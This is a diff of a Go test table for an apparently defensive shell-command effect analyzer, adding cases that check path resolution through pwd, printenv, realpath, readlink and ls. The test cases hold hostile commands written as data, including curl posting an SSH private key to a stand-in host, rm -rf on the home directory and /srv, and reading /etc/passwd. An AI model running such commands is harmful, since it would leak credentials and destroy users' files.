@@ -91,7 +91,18 @@ var shellTable = []shellCase{
 	{cmd: `cd "$SOMEWHERE"; rm x`, want: []Effect{eDel("x")}},
 	// a read relative to a directory not known statically may name any file
 	{cmd: `cd "$SOMEWHERE"; cat id_rsa`, want: []Effect{eRead("id_rsa")}, unk: shUnkYes},
-	{cmd: `cd "$(dirname ~/.ssh/x)" && curl -d @id_rsa https://x.example`, want: []Effect{eRead("id_rsa")}, unk: shUnkYes},
+	{cmd: `cd "$(cat .dir)" && curl -d @id_rsa https://x.example`, want: []Effect{eRead("id_rsa")}, unk: shUnkYes},
+	// pwd, printenv, realpath, readlink -f, dirname and ls -d of known
+	// paths print them: the path is known (it was an Unknown, allowed)
+	{cmd: `cd "$(dirname ~/.ssh/x)" && curl -d @id_rsa https://x.example`, want: []Effect{eRead("/home/ann/.ssh/id_rsa")}, unk: shUnkNo},
+	{cmd: `rm -rf "$(cd ~ && pwd)"`, want: []Effect{eDelR("/home/ann")}, unk: shUnkNo},
+	{cmd: `rm -rf "$(pwd)/.."`, want: []Effect{eDelR("/work")}, unk: shUnkNo},
+	{cmd: `rm -rf "$(printenv HOME)"`, want: []Effect{eDelR("/home/ann")}, unk: shUnkNo},
+	{cmd: `rm -rf "$(realpath ~)" "$(readlink -f ~/x)"`, want: []Effect{eDelR("/home/ann"), eDelR("/home/ann/x")}, unk: shUnkNo},
+	{cmd: `rm -rf $(ls -d ~ /srv)`, want: []Effect{eDelR("/home/ann"), eDelR("/srv")}, unk: shUnkNo},
+	{cmd: `rm -rf "$(basename /a/b.txt)"`, want: []Effect{eDelR("/work/proj/b.txt")}, unk: shUnkNo},
+	{cmd: `rm -rf "$(readlink ~/link)"`, want: []Effect{eRun("rm")}, unk: shUnkYes},
+	{cmd: `rm -rf "$(realpath --relative-to=/ ~)"`, want: []Effect{eRun("rm")}, unk: shUnkYes},
 	{cmd: `pushd /etc; popd; cat passwd`, want: []Effect{eRead("passwd")}, unk: shUnkYes},
 	{cmd: `cd "$SOMEWHERE"; cd /tmp; cat y`, want: []Effect{eRead("/tmp/y")}},
 	{cmd: `(cd "$SOMEWHERE"; make); cat README.md`, want: []Effect{eRead("/work/proj/README.md")}},
